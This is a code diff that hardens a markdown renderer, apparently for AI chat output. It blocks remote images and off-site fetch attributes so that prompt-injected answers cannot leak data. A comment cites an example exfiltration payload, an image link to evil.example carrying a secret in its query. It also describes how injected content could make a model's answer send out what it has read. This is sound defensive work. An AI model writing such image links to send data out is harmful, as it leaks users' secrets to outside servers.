@@ -9,12 +9,64 @@ const parser = markedLib ? new markedLib.Marked({ gfm: true, breaks: true }) : n
 
 if (hljs) hljs.configure({ ignoreUnescapedHTML: true });
 
+// Attributes whose address the browser fetches as soon as the element is shown, with no
+// click. `srcset` is forbidden outright: markdown never writes it, and a list of addresses
+// is one more thing to get wrong.
+const FETCHED_ATTRS = ["src", "poster", "background"];
+
+/** Whether the browser may fetch url by itself: an address on this site, or a data: URL. */
+function isLocalAddress(url) {
+  let parsed;
+  try {
+    parsed = new URL(url, document.baseURI);
+  } catch {
+    return false;
+  }
+  return parsed.protocol === "data:" || parsed.origin === window.location.origin;
+}
+
+/**
+ * What a remote image becomes: a link showing its description and address. Loading it
+ * would send the address to its server unasked, and a prompt-injected answer can put
+ * anything it read into that address (`![x](https://evil.example/?q=<secret>)`).
+ */
+function remoteImageLink(img, src) {
+  const doc = img.ownerDocument;
+  // Inside a link already (`[![x](img)](url)`), a second link would be torn apart.
+  const link = doc.createElement(img.closest("a") ? "span" : "a");
+  link.className = "remote-image";
+  if (link.tagName === "A") {
+    link.setAttribute("href", src);
+    link.setAttribute("target", "_blank");
+    link.setAttribute("rel", "noopener noreferrer");
+  }
+  link.setAttribute("title", "A remote image, not loaded");
+  const alt = doc.createElement("span");
+  alt.className = "remote-image-alt";
+  alt.textContent = img.getAttribute("alt") || "image";
+  const address = doc.createElement("span");
+  address.className = "remote-image-url";
+  address.textContent = src;
+  link.append(alt, " ", address);
+  return link;
+}
+
 if (DOMPurify) {
-  // Every link opens in a new tab without handing over window.opener or the referrer.
   DOMPurify.addHook("afterSanitizeAttributes", (node) => {
+    // Every link opens in a new tab without handing over window.opener or the referrer.
     if (node.tagName === "A" && node.hasAttribute("href")) {
       node.setAttribute("target", "_blank");
       node.setAttribute("rel", "noopener noreferrer");
+    }
+    // Markdown images and raw <img> alike: only this site's images and data: URLs load.
+    const src = node.getAttribute("src");
+    if (node.tagName === "IMG" && src !== null && !isLocalAddress(src)) {
+      node.replaceWith(remoteImageLink(node, src));
+      return;
+    }
+    for (const name of FETCHED_ATTRS) {
+      const value = node.getAttribute(name);
+      if (value !== null && !isLocalAddress(value)) node.removeAttribute(name);
     }
   });
 }
@@ -22,7 +74,7 @@ if (DOMPurify) {
 const PURIFY_OPTIONS = {
   USE_PROFILES: { html: true },
   FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "option"],
-  FORBID_ATTR: ["style"],
+  FORBID_ATTR: ["style", "srcset"],
 };
 
 /** Sanitised HTML for a markdown string; plain escaped text if a library is missing. */
